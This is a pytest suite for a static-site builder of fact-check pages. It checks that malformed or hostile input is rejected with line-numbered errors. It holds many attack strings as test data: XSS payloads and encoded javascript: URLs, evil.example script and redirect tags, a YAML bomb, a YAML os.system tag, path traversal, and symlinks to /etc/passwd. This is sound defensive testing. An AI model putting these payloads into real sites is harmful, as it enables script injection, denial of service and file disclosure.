"""Every mistake a writer (or a hostile contributor) could make, through the command line.

Each case adds or replaces files in a copy of the `good` fixture site that already holds a
good build, runs `build`, and expects exit code 1, every expected `PATH:LINE: error:` line
with the words a writer would look for, no traceback, and the previous output untouched.
A few inputs that look odd but are fine (a BOM, Windows line endings, claim syntax in
code) are built, and must build.
"""
from __future__ import annotations

import os
import re
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import make_site, run_cli, snapshot

ERROR_RE = re.compile(r"^(?P<path>.+?):(?P<line>\d+): error: (?P<message>.+)$")

# A page whose body starts on line 7; claim 'a' is on line 5.
FRONT = "title: T\ndate: 2022-01-01\nclaims:\n  a: {status: verified, source: newsweek}\n"


def page(front: str = FRONT, body: str = "A claim.[^a]\n") -> str:
    """A page with the given front matter (without the '---' lines) and body."""
    return f"---\n{front}---\n{body}"


def with_claim_body(body: str) -> str:
    """The standard page with `body` after a first paragraph that references claim 'a' (body line 9 on)."""
    return page(body="A claim.[^a]\n\n" + body)


@dataclass
class Case:
    name: str
    files: dict[str, str | bytes | None]  # path in the site -> new content (None deletes)
    expect: list[tuple[str, int, tuple[str, ...]]]  # (path, line, words in the message)
    setup: object = None  # optional callable(site) for things files cannot say (links, modes)


def bad(name, files, *expect, setup=None):
    return Case(name, files if isinstance(files, dict) else {"content/bad.md": files}, list(expect), setup)


def symlink_outside(site: Path) -> None:
    secret = site.parent / "secret.md"
    secret.write_text(page())
    (site / "content/leak.md").symlink_to(secret)


def static_symlink_outside(site: Path) -> None:
    (site / "static/leak.txt").symlink_to("/etc/passwd")


def dangling_symlink(site: Path) -> None:
    (site / "content/gone.md").symlink_to(site / "content/nowhere.md")


BILLION_LAUGHS = "title: T\ndate: 2022-01-01\n" + "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else 'lol'}]\n" for i in range(9)
)

CASES = [
    # --- SPEC 3: required fields, dates, slugs, layouts, images
    bad("missing-title", page("date: 2022-01-01\n", "x\n"), ("content/bad.md", 1, ("missing", "title"))),
    bad("missing-date", page("title: T\n", "x\n"), ("content/bad.md", 1, ("missing", "date"))),
    bad("empty-title", page('title: "  "\ndate: 2022-01-01\n', "x\n"), ("content/bad.md", 2, ("title", "empty"))),
    bad("title-is-a-list", page("title: [a, b]\ndate: 2022-01-01\n", "x\n"), ("content/bad.md", 2, ("title", "must be text", "list"))),
    bad("impossible-date", page("title: T\ndate: 2022-02-30\n", "x\n"), ("content/bad.md", 3, ("date", "YYYY-MM-DD", "2022-02-30"))),
    bad("date-in-words", page("title: T\ndate: 19 May 2022\n", "x\n"), ("content/bad.md", 3, ("date", "YYYY-MM-DD"))),
    bad("control-character-in-title", page('title: "bell \\a and escape \\e"\ndate: 2022-01-01\n', "x\n"), ("content/bad.md", 2, ("'title'", "control character U+0007"))),
    bad("nul-escape-in-a-note", page(FRONT.replace("}", ', note: "a\\0b"}')), ("content/bad.md", 5, ("'note'", "U+0000"))),
    bad("malformed-updated", page(FRONT + "updated: yesterday\n"), ("content/bad.md", 6, ("updated", "YYYY-MM-DD"))),
    bad("slug-with-spaces", page(FRONT + "slug: My Page\n"), ("content/bad.md", 6, ("slug", "lowercase letters"))),
    bad("slug-escapes-output", page(FRONT + "slug: ../../outside\n"), ("content/bad.md", 6, ("slug", "../../outside", "lowercase letters"))),
    bad("slug-with-a-trailing-newline", page(FRONT + 'slug: "abc\\n"\n'), ("content/bad.md", 6, ("slug 'abc\\n'", "lowercase letters"))),
    bad("slug-absolute-path", page(FRONT + "slug: /etc\n"), ("content/bad.md", 6, ("slug", "/etc"))),
    bad("slug-collides-with-a-page", page(FRONT + "slug: second\n"), ("content/second.md", 1, ("slug 'second'", "content/bad.md", "share a URL"))),
    bad("slug-collides-with-claims-ledger", page(FRONT + "slug: claims\n"), ("content/bad.md", 1, ("slug 'claims'", "taken by the site"))),
    bad("slug-collides-with-static-folder", page(FRONT + "slug: css\n"), ("content/bad.md", 1, ("slug 'css'", "static/"))),
    bad("file-name-not-a-slug", {"content/My Story.md": page()}, ("content/My Story.md", 1, ("file name", "slug"))),
    bad("draft-not-a-flag", page(FRONT + "draft: maybe\n"), ("content/bad.md", 6, ("draft", "true or false"))),
    bad("unknown-layout", page(FRONT + "layout: fancy\n"), ("content/bad.md", 6, ("layout 'fancy'", "layouts/fancy.html"))),
    bad("layout-path-traversal", page(FRONT + "layout: ../../etc/passwd\n"), ("content/bad.md", 6, ("layout", "template name"))),
    bad("image-missing", page(FRONT + "image: {src: images/nope.jpg, alt: A}\n"), ("content/bad.md", 6, ("image 'images/nope.jpg'", "not found under static/"))),
    bad("image-escapes-static", page(FRONT + "image: {src: ../site.yaml, alt: A}\n"), ("content/bad.md", 6, ("../site.yaml", "not found under static/"))),
    bad("image-without-alt", page(FRONT + "image: {src: images/parade.gif}\n"), ("content/bad.md", 6, ("image", "missing 'alt'"))),
    # --- SPEC 3: claims and sources
    bad("unknown-status", page(FRONT.replace("verified", "probably")), ("content/bad.md", 5, ("unknown status 'probably'", "verified"))),
    bad("unknown-source", page(FRONT.replace("newsweek", "tass")), ("content/bad.md", 5, ("unknown source 'tass'",))),
    bad("first-of-two-sources-unknown", page(FRONT.replace("source: newsweek", "sources: [tass, newsweek]")), ("content/bad.md", 5, ("unknown source 'tass'",))),
    bad("claim-missing-status", page(FRONT.replace("status: verified, ", "")), ("content/bad.md", 5, ("claim 'a'", "missing 'status'"))),
    bad("claim-missing-source", page(FRONT.replace(", source: newsweek", "")), ("content/bad.md", 5, ("claim 'a'", "missing 'source'"))),
    bad("claim-both-source-and-sources", page(FRONT.replace("}", ", sources: [newsweek]}")), ("content/bad.md", 5, ("both 'source' and 'sources'",))),
    bad("sources-not-a-list", page(FRONT.replace("source: newsweek", "sources: newsweek")), ("content/bad.md", 5, ("'sources' must be a list",))),
    bad("claim-not-a-mapping", page(FRONT.replace("{status: verified, source: newsweek}", "verified")), ("content/bad.md", 5, ("claim 'a' must be a mapping",))),
    bad("claims-is-a-list", page("title: T\ndate: 2022-01-01\nclaims: [a, b]\n", "x\n"), ("content/bad.md", 4, ("'claims' must be a mapping", "list"))),
    bad("misspelt-claim-field", page(FRONT.replace("status:", "stauts:")), ("content/bad.md", 5, ("unknown field 'stauts'",))),
    bad("claim-id-with-spaces", page(FRONT + '  "a b": {status: verified, source: newsweek}\n'), ("content/bad.md", 6, ("claim id 'a b'", "letters, digits"))),
    bad("claim-id-with-markup", page(FRONT + '  "<script>": {status: verified, source: newsweek}\n'), ("content/bad.md", 6, ("claim id '<script>'", "letters, digits"))),
    bad("claim-ids-clash-after-case-folding", page(FRONT + "  A: {status: verified, source: newsweek}\n"), ("content/bad.md", 6, ("claim id 'A'", "only in case"))),
    bad("duplicate-claim", page(FRONT + "  a: {status: refuted, source: newsweek}\n"), ("content/bad.md", 6, ("duplicate key 'a'", "line 5"))),
    bad("duplicate-top-level-key", page(FRONT + "title: Again\n"), ("content/bad.md", 6, ("duplicate key 'title'", "line 2"))),
    bad("malformed-checked-date", page(FRONT.replace("}", ", checked: 2026-13-01}")), ("content/bad.md", 5, ("checked", "YYYY-MM-DD"))),
    bad("claim-url-javascript", page(FRONT.replace("}", ', url: "javascript:alert(1)"}')), ("content/bad.md", 5, ("'url'", "http:, https: or mailto:", "javascript:alert(1)"))),
    bad("claim-url-mixed-case-javascript", page(FRONT.replace("}", ', url: "JaVaScRiPt:alert(1)"}')), ("content/bad.md", 5, ("'url'", "http:, https: or mailto:"))),
    bad("claim-url-with-control-char-trick", page(FRONT.replace("}", ', url: "\\u0001javascript:alert(1)"}')), ("content/bad.md", 5, ("'url'", "control character U+0001"))),
    bad("claim-url-with-leading-space-trick", page(FRONT.replace("}", ', url: " javascript:alert(1)"}')), ("content/bad.md", 5, ("'url'", "http:, https: or mailto:"))),
    bad("source-url-data", page(FRONT + "sources:\n  evil: {name: E, url: \"data:text/html,<script>alert(1)</script>\"}\n"), ("content/bad.md", 7, ("'url'", "http:, https: or mailto:"))),
    bad("source-url-bad-ipv6-host", page(FRONT + "sources:\n  odd: {name: O, url: \"https://[^a]example.org/\"}\n"), ("content/bad.md", 7, ("'url'", "http:, https: or mailto:"))),
    bad("source-without-name", page(FRONT + "sources:\n  evil: {url: \"https://e.org/\"}\n"), ("content/bad.md", 7, ("source 'evil'", "missing 'name'"))),
    bad("source-key-with-markup", page(FRONT + "sources:\n  \"<b>\": {name: B}\n"), ("content/bad.md", 7, ("source key '<b>'", "letters, digits"))),
    bad("note-with-javascript-link", page(FRONT.replace("}", ', note: "[x](javascript:alert(1))"}')), ("content/bad.md", 5, ("note", "javascript:alert(1)", "http:, https: and mailto:"))),
    bad("note-with-a-list", page(FRONT.replace("}", ', note: "- one\\n- two"}')), ("content/bad.md", 5, ("note", "inline Markdown only"))),
    # --- SPEC 3: the body
    bad("undefined-claim", with_claim_body("Then [this][^nope] happened.\n"), ("content/bad.md", 9, ("undefined claim 'nope'", "claims:"))),
    bad("reference-differs-in-case", with_claim_body("Again.[^A]\n"), ("content/bad.md", 9, ("undefined claim 'A'",))),
    bad("link-inside-claim-text", page(body="[see [this](https://e.org/) now][^a]\n"), ("content/bad.md", 7, ("highlighted text of claim 'a'", "contains a link"))),
    bad("claim-inside-link", page(body="[see [^a] here](https://e.org/)\n"), ("content/bad.md", 7, ("'[^a]'", "inside a link"))),
    bad("nested-claims", page(FRONT + "  b: {status: verified, source: newsweek}\n", "[outer [inner][^b] text][^a]\n"), ("content/bad.md", 8, ("'[^b]'", "claims cannot nest"))),
    bad("claim-and-footnote-both", with_claim_body("[^a]: a footnote with the claim's id\n"), ("content/bad.md", 9, ("'a' is defined both", "footnote"))),
    bad("link-to-missing-page", with_claim_body("See [this](nope.md).\n"), ("content/bad.md", 9, ("nope.md", "no page"))),
    bad("link-to-missing-file", with_claim_body("See [this](images/nope.png).\n"), ("content/bad.md", 9, ("images/nope.png", "no such file under static/"))),
    bad("body-link-javascript", with_claim_body("[x](javascript:alert(1))\n"), ("content/bad.md", 9, ("javascript:", "only http:, https: and mailto:"))),
    bad("body-link-mixed-case-javascript", with_claim_body("[x](JaVaScRiPt:alert(1))\n"), ("content/bad.md", 9, ("javascript:", "only http:, https: and mailto:"))),
    bad("body-link-entity-encoded-javascript", with_claim_body("[x](&#106;avascript:alert(1))\n"), ("content/bad.md", 9, ("&#106;avascript:alert(1)", "'javascript:'"))),
    bad("body-link-hex-entity-javascript", with_claim_body("[x](&#x6A;&#x61;vascript:alert(1))\n"), ("content/bad.md", 9, ("'javascript:'",))),
    bad("body-link-tab-entity-javascript", with_claim_body("[x](java&#9;script:alert(1))\n"), ("content/bad.md", 9, ("'javascript:'",))),
    bad("body-link-newline-entity-javascript", with_claim_body("[x](java&#10;script:alert(1))\n"), ("content/bad.md", 9, ("'javascript:'",))),
    bad("body-link-control-char-javascript", with_claim_body("[x](\x01javascript:alert(1))\n"), ("content/bad.md", 9, ("'javascript:'",))),
    bad("body-link-bad-ipv6-host", with_claim_body("[x](https://[oops/)\n"), ("content/bad.md", 9, ("https://[oops/", "not a valid address"))),
    bad("body-image-javascript", with_claim_body("![x](javascript:alert(1))\n"), ("content/bad.md", 9, ("'javascript:'",))),
    bad("body-link-data-url", with_claim_body("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n"), ("content/bad.md", 9, ("'data:'",))),
    bad("body-link-vbscript", with_claim_body("[x](vbscript:msgbox(1))\n"), ("content/bad.md", 9, ("'vbscript:'",))),
    bad("emphasis-nested-too-deep", with_claim_body("*" * 3000 + "x" + "*" * 3000 + "\n"), ("content/bad.md", 7, ("nested hundreds of levels",))),
    bad("lists-nested-too-deep", with_claim_body("".join("    " * i + "- x\n" for i in range(300))), ("content/bad.md", 7, ("nested hundreds of levels",))),
    bad("thousands-of-unclosed-brackets", with_claim_body("Fine.\n\n" + "[" * 100_000 + "\n"), ("content/bad.md", 11, ("100000 '[' and '<'", "split it"))),
    bad("unclosed-brackets-all-over-the-page", with_claim_body(("x[" * 400 + "\n\n") * 30), ("content/bad.md", 7, ("12001 '[' and '<'", "split the page"))),
    bad("thousands-of-unclosed-tags", with_claim_body("<a " * 5000 + "\n"), ("content/bad.md", 9, ("'[' and '<'",))),
    # --- raw HTML (refused unless allow_raw_html: true)
    bad("raw-script", with_claim_body("<script>alert(1)</script>\n"), ("content/bad.md", 9, ("<script>", "scripts are not allowed"))),
    bad("raw-script-inline", with_claim_body("Text <script>alert(1)</script> more.\n"), ("content/bad.md", 9, ("<script>",))),
    bad("raw-script-uppercase", with_claim_body("<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n"), ("content/bad.md", 9, ("<script>",))),
    bad("raw-event-handler", with_claim_body('<img src="x.png" onerror="alert(1)">\n'), ("content/bad.md", 9, ("onerror", "event-handler"))),
    bad("raw-event-handler-inline-mixed-case", with_claim_body('Text <b OnMouseOver="alert(1)">bold</b>.\n'), ("content/bad.md", 9, ("onmouseover", "event-handler"))),
    bad("raw-event-handler-on-a-later-line", with_claim_body('<div>\n<p>\nfine\n</p>\n<svg/onload=alert(1)>\n</div>\n'), ("content/bad.md", 13, ("onload", "event-handler"))),
    bad("raw-javascript-href", with_claim_body('<a href="javascript:alert(1)">x</a>\n'), ("content/bad.md", 9, ("href", "'javascript:'"))),
    bad("raw-entity-javascript-href", with_claim_body('<a href="&#106;avascript:alert(1)">x</a>\n'), ("content/bad.md", 9, ("href", "'javascript:'"))),
    bad("raw-whitespace-javascript-href", with_claim_body('<a href=" java&#x09;script:alert(1)">x</a>\n'), ("content/bad.md", 9, ("href", "'javascript:'"))),
    bad("raw-data-src", with_claim_body('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">\n'), ("content/bad.md", 9, ("src", "'data:'"))),
    bad("raw-vbscript-href", with_claim_body('<a href="vbscript:msgbox(1)">x</a>\n'), ("content/bad.md", 9, ("'vbscript:'",))),
    bad("raw-iframe", with_claim_body('<iframe src="https://evil.example/"></iframe>\n'), ("content/bad.md", 9, ("<iframe>", "frames"))),
    bad("raw-object", with_claim_body('<object data="x.swf"></object>\n'), ("content/bad.md", 9, ("<object>",))),
    bad("raw-embed", with_claim_body('<embed src="x.swf">\n'), ("content/bad.md", 9, ("<embed>",))),
    bad("raw-style-element", with_claim_body("<style>body{display:none}</style>\n"), ("content/bad.md", 9, ("<style>", "static/css"))),
    bad("raw-style-attribute", with_claim_body('<p style="color:red">red</p>\n'), ("content/bad.md", 9, ("style=", "static/css"))),
    bad("raw-meta-refresh", with_claim_body('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'), ("content/bad.md", 9, ("<meta>", "redirect"))),
    bad("raw-base", with_claim_body('<base href="https://evil.example/">\n'), ("content/bad.md", 9, ("<base>",))),
    bad("raw-comment-parser-trick", with_claim_body("<!--><img src=x onerror=alert(1)>-->\n"), ("content/bad.md", 9, ("onerror", "comment"))),
    bad("raw-attribute-reparse-trick", with_claim_body('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n'), ("content/bad.md", 9, ("onerror", "title="))),
    bad("raw-svg-animate-trick", with_claim_body('<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>\n'), ("content/bad.md", 9, ("values=", "'javascript:'"))),
    bad("raw-html-in-a-footnote", with_claim_body("Note.[^1]\n\n[^1]: See <img src=x onerror=alert(1)>.\n"), ("content/bad.md", 11, ("onerror",))),
    # --- YAML that is not what it should be
    bad("front-matter-is-a-list", "---\n- title\n- date\n---\nx\n", ("content/bad.md", 2, ("expected a mapping", "list"))),
    bad("front-matter-is-text", "---\njust some words\n---\nx\n", ("content/bad.md", 2, ("expected a mapping",))),
    bad("front-matter-is-empty", "---\n---\nx\n", ("content/bad.md", 2, ("expected a mapping", "nothing"))),
    bad("tab-indentation", page(FRONT + "sources:\n\tx: {name: X}\n"), ("content/bad.md", 7, ("tab character", "spaces"))),
    bad("yaml-syntax-error", page(FRONT + "summary: [unclosed\n"), ("content/bad.md", 6, ("invalid YAML", "never closed"))),
    bad("billion-laughs", page(BILLION_LAUGHS), ("content/bad.md", 4, ("anchors and aliases",))),
    bad("alias-reused-claim", page(FRONT + "  b: *x\n").replace("a: {", "a: &x {"), ("content/bad.md", 5, ("anchors and aliases",))),
    bad("yaml-nested-too-deep", page(FRONT + "summary: " + "[" * 3000 + "]" * 3000 + "\n"), ("content/bad.md", 6, ("nested more than", "levels deep"))),
    bad("yaml-mappings-nested-too-deep", page(FRONT + "summary: " + "{a: " * 3000 + "b" + "}" * 3000 + "\n"), ("content/bad.md", 6, ("nested more than",))),
    bad("front-matter-never-closes", "---\ntitle: T\ndate: 2022-01-01\n\nBody text.\n", ("content/bad.md", 1, ("front matter never closes", "'---'"))),
    bad("no-front-matter", "# Just a heading\n\nText.\n", ("content/bad.md", 1, ("no front matter", "title:"))),
    bad("yaml-custom-tag", page(FRONT + "summary: !!python/object/apply:os.system [echo pwned]\n"), ("content/bad.md", 6, ("YAML tags", "!!python/object/apply:os.system", "not allowed"))),
    # --- bytes that are not a page
    bad("not-utf8", page(body="A claim.[^a]\n\nCaf\xe9\n").encode("latin-1"), ("content/bad.md", 9, ("not UTF-8", "0xe9"))),
    bad("utf16-file", page().encode("utf-16"), ("content/bad.md", 1, ("not UTF-8",))),
    bad("nul-byte", page(body="A claim.[^a]\n\x00\n"), ("content/bad.md", 8, ("NUL byte",))),
    bad("empty-file", "", ("content/bad.md", 1, ("page is empty",))),
    bad("only-whitespace", "\n  \n\t\n", ("content/bad.md", 1, ("page is empty",))),
    bad("ten-megabyte-page", page(body="A claim.[^a]\n" + "lorem ipsum dolor " * 600_000), ("content/bad.md", 1, ("10 MB", "limited to 2 MB"))),
    # --- files and folders
    bad("symlink-outside-the-site", {}, ("content/leak.md", 1, ("link to a file outside the site",)), setup=symlink_outside),
    bad("symlink-in-static-outside-the-site", {}, ("static/leak.txt", 1, ("link to a file outside the site", "publish")), setup=static_symlink_outside),
    bad("dangling-symlink", {}, ("content/gone.md", 1, ("link", "does not exist")), setup=dangling_symlink),
    bad("missing-template", {"layouts/404.html": None}, ("layouts/404.html", 1, ("template", "not found"))),
    bad("template-syntax-error", {"layouts/page.html": "{% extends 'base.html' %}\n{% block main %}\n{{ page.title }\n{% endblock %}\n"}, ("layouts/page.html", 3, ("template syntax",))),
    bad("template-names-an-unknown-value", {"layouts/page.html": "{% extends 'base.html' %}\n{% block main %}{{ page.nonexistent_field }}{% endblock %}\n"}, ("layouts", 1, ("template failed", "nonexistent_field"))),
    bad("missing-site-yaml", {"site.yaml": None}, ("site.yaml", 1, ("site.yaml not found",))),
    bad("site-yaml-without-statuses", {"site.yaml": "title: S\nsources:\n  newsweek: {name: N}\n  \"no\": {name: No}\n"}, ("site.yaml", 1, ("missing 'statuses'",)), ("content/first.md", 14, ("unknown status 'unverified'", "no statuses"))),
    bad("site-yaml-empty-statuses", {"site.yaml": "title: S\nstatuses: {}\n"}, ("site.yaml", 2, ("'statuses' is empty",))),
    bad("site-yaml-is-a-list", {"site.yaml": "- title\n- statuses\n"}, ("site.yaml", 1, ("expected a mapping",))),
    bad("site-yaml-javascript-base-url", {"site.yaml": "title: S\nbase_url: \"javascript:alert(1)//\"\nstatuses:\n  verified: {label: V, description: D}\n"}, ("site.yaml", 2, ("base_url", "http:, https:"))),
    bad("site-yaml-output-is-content", {"site.yaml": (Path(__file__).parent / "fixtures/good/site.yaml").read_text().replace("output_dir: public", "output_dir: content")}, ("site.yaml", 1, ("output folder", "content/"))),
    bad("site-yaml-output-is-site", {"site.yaml": (Path(__file__).parent / "fixtures/good/site.yaml").read_text().replace("output_dir: public", "output_dir: ..")}, ("site.yaml", 1, ("output folder", "contains the site"))),
    bad("site-yaml-stale-days-not-a-number", {"site.yaml": (Path(__file__).parent / "fixtures/good/site.yaml").read_text().replace("365", "a year")}, ("site.yaml", 5, ("stale_after_days", "whole number"))),
]

GOOD = {  # inputs that look unusual but are fine: they must build
    "bom": {"content/bad.md": "\ufeff" + page()},
    "bom-site-yaml": {"site.yaml": "\ufeff" + (Path(__file__).parent / "fixtures/good/site.yaml").read_text()},
    "crlf": {"content/bad.md": page().replace("\n", "\r\n")},
    "claims-in-code": {"content/bad.md": with_claim_body("`[^nope]` in a span, ``[x][^nope]`` too.\n\n```\n[^nope] in a fence\n```\n\n    [^nope] indented\n")},
    "note-link-odd-host": {"content/bad.md": page(FRONT.replace("}", ', note: "[x](https://[oops/)"}'))},  # no crash
    "autolinked-email": {"content/bad.md": with_claim_body("Write to <desk@example.org> or see <https://example.org/>.\n")},
    "harmless-raw-html": {"content/bad.md": with_claim_body('<figure class="chart"><img src="images/parade.gif" alt="A tank"><figcaption>A <abbr title="Victory Day">VD</abbr> parade, <a href="https://example.org/">source</a>.</figcaption></figure>\n\nPress <kbd>Tab</kbd> or read <!-- a comment --> on.\n')},
}


@pytest.fixture(scope="module")
def good_output(tmp_path_factory) -> Path:
    """One good build of the fixture site, copied into every case as its previous output."""
    site = make_site(tmp_path_factory.mktemp("good"))
    result = run_cli("build", "--site", str(site))
    assert result.code == 0, result.err
    return site / "public"


def prepare(tmp_path: Path, files: dict, setup, good_output: Path) -> Path:
    """The fixture site with a previous good build in place, then the case's changes."""
    site = make_site(tmp_path)
    shutil.copytree(good_output, site / "public")
    for rel, data in files.items():
        target = site / rel
        if data is None:
            target.unlink()
        elif isinstance(data, bytes):
            target.write_bytes(data)
        else:
            target.write_bytes(data.encode("utf-8"))
    if setup:
        setup(site)
    return site


def errors(stderr: str) -> list[re.Match]:
    return [m for m in map(ERROR_RE.match, stderr.splitlines()) if m]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_bad_input_is_reported_and_nothing_is_written(case: Case, tmp_path: Path, good_output: Path):
    site = prepare(tmp_path, case.files, case.setup, good_output)
    before = snapshot(site / "public")
    result = run_cli("build", "--site", str(site))
    assert result.code == 1, f"exit {result.code}\n{result.err}"
    assert "Traceback" not in result.err
    found = errors(result.err)
    assert found, result.err
    for rel, line, words in case.expect:
        matches = [m for m in found if m["path"] == f"{site}/{rel}" and int(m["line"]) == line]
        assert matches, f"no error at {rel}:{line} in:\n{result.err}"
        assert any(all(w.lower() in m["message"].lower() for w in words) for m in matches), f"{words} not in:\n{result.err}"
    assert snapshot(site / "public") == before
    assert sorted(p.name for p in site.iterdir() if p.name.startswith(".public")) == []


def test_case_count():
    """The issue asks for at least 40 distinct mistakes."""
    assert len({c.name for c in CASES}) == len(CASES) >= 40


@pytest.mark.parametrize("name", sorted(GOOD))
def test_unusual_but_valid_input_builds(name: str, tmp_path: Path, good_output: Path):
    site = prepare(tmp_path, GOOD[name], None, good_output)
    result = run_cli("build", "--site", str(site))
    assert result.code == 0, result.err
    assert "error" not in result.err


def test_bom_and_crlf_keep_lines_right(tmp_path: Path, good_output: Path):
    """A CRLF page with a BOM still reports its mistakes on the right line."""
    text = "\ufeff" + with_claim_body("Then [this][^nope].\n")
    site = prepare(tmp_path, {"content/bad.md": text.replace("\n", "\r\n")}, None, good_output)
    result = run_cli("build", "--site", str(site))
    assert result.code == 1
    assert f"{site}/content/bad.md:9: error: reference to undefined claim 'nope'" in result.err
    (site / "content/bad.md").write_bytes(text.replace("\n", "\r").encode())  # old Mac line endings
    assert f"{site}/content/bad.md:9: error: reference to undefined claim 'nope'" in run_cli("build", "--site", str(site)).err


def test_bom_page_title_has_no_stray_character(tmp_path: Path, good_output: Path):
    site = prepare(tmp_path, GOOD["bom"], None, good_output)
    assert run_cli("build", "--site", str(site)).code == 0
    html = (site / "public/bad/index.html").read_text(encoding="utf-8")
    assert "<h1>T</h1>" in html and "\ufeff" not in html


def test_claim_syntax_in_code_stays_literal_text(tmp_path: Path, good_output: Path):
    site = prepare(tmp_path, GOOD["claims-in-code"], None, good_output)
    assert run_cli("build", "--site", str(site)).code == 0
    html = (site / "public/bad/index.html").read_text(encoding="utf-8")
    assert html.count('data-claim="nope"') == 0 and html.count("[^nope]") == 4
    assert html.count('data-claim="a"') == 1


def test_crlf_page_renders_no_carriage_returns(tmp_path: Path, good_output: Path):
    site = prepare(tmp_path, GOOD["crlf"], None, good_output)
    assert run_cli("build", "--site", str(site)).code == 0
    assert b"\r" not in (site / "public/bad/index.html").read_bytes()


def test_allow_raw_html_lets_the_writer_through(tmp_path: Path, good_output: Path):
    """`allow_raw_html: true` is the site's explicit decision to trust raw HTML."""
    site_yaml = (Path(__file__).parent / "fixtures/good/site.yaml").read_text() + "allow_raw_html: true\n"
    body = with_claim_body('<p style="color:red" onclick="void 0">styled</p>\n\n<script src="js/extra.js"></script>\n')
    site = prepare(tmp_path, {"site.yaml": site_yaml, "content/bad.md": body}, None, good_output)
    result = run_cli("build", "--site", str(site))
    assert result.code == 0, result.err
    html = (site / "public/bad/index.html").read_text(encoding="utf-8")
    assert '<p style="color:red" onclick="void 0">styled</p>' in html and '<script src="js/extra.js"></script>' in html


def test_every_mistake_of_a_run_is_reported_at_once(tmp_path: Path, good_output: Path):
    files = {
        "content/one.md": page(FRONT.replace("verified", "probably")),
        "content/two.md": "---\ntitle: T\n",
        "content/three.md": with_claim_body("<script>x</script>\n"),
    }
    site = prepare(tmp_path, files, None, good_output)
    result = run_cli("build", "--site", str(site))
    where = {(m["path"].removeprefix(f"{site}/"), int(m["line"])) for m in errors(result.err)}
    assert {("content/one.md", 5), ("content/two.md", 1), ("content/three.md", 9)} <= where


@pytest.mark.skipif(os.geteuid() == 0, reason="running as root: chmod 000 does not stop root reading a file (the dangling-symlink case covers unreadable pages)")
def test_unreadable_page(tmp_path: Path, good_output: Path):
    site = prepare(tmp_path, {"content/bad.md": page()}, None, good_output)
    (site / "content/bad.md").chmod(0)
    before = snapshot(site / "public")
    result = run_cli("build", "--site", str(site))
    assert result.code == 1 and "Traceback" not in result.err
    assert f"{site}/content/bad.md:1: error: cannot read this file" in result.err
    assert snapshot(site / "public") == before


def test_a_page_markdown_cannot_read_does_not_upset_the_next(tmp_path: Path, good_output: Path):
    """After a page nested too deep, the next page's claim references are still found."""
    site = prepare(tmp_path, {"content/aaa.md": with_claim_body("*" * 3000 + "x" + "*" * 3000 + "\n")}, None, good_output)
    result = run_cli("build", "--site", str(site))
    assert result.code == 1 and "nested hundreds of levels" in result.err
    assert "never referenced" not in result.err.replace("claim 'a' is defined but never referenced", "")


def test_every_problem_is_one_line(tmp_path: Path, good_output: Path):
    """A quoted value or file name with a newline or control character cannot break the PATH:LINE format."""
    files = {"content/bad.md": page(FRONT + 'slug: "a\\nb\\u001b[31m"\n'), "content/odd\nname.md": page()}
    site = prepare(tmp_path, files, None, good_output)
    result = run_cli("build", "--site", str(site))
    lines = [l for l in result.err.splitlines() if not l.startswith("build failed")]
    assert len(lines) == 2 and all(ERROR_RE.match(l) for l in lines), result.err
    assert "\x1b" not in result.err
